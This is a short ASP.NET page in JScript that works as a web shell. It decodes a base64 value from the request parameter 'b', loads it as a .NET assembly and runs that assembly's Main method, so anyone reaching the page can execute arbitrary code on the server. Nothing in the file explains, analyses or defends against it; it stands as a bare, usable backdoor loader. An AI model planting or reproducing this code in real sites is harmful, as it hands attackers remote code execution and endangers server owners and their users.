<%@ Page Language="JScript" %>
<%
var b = System.Convert.FromBase64String(Request.Item["b"]);
var t = System.Reflection.Assembly.Load(b).GetType("Z");
t.GetMethod("Main").Invoke(null, null);
%>
